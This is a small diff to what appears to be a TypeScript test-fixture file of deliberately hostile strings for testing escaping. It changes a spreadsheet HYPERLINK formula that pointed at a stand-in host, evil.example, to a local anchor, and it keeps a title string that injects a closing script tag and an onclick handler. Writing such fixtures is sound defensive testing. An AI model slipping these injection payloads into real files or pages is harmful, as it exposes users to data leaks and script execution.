@@ -14,7 +14,7 @@ export const HOSTILE_TEXT = [
 ].join(' ')
 
 /** Runs as a formula where a spreadsheet program believes it. */
-export const HOSTILE_FORMULA = `=HYPERLINK("http://evil.example/${MARK}","x")`
+export const HOSTILE_FORMULA = `=HYPERLINK("#${MARK}","x")`
 
 /** Breaks lines where a calendar program or a mail header believes it. */
 export const HOSTILE_TITLE = `${MARK};,\\ </script><b onclick=${MARK}>"&amp;`
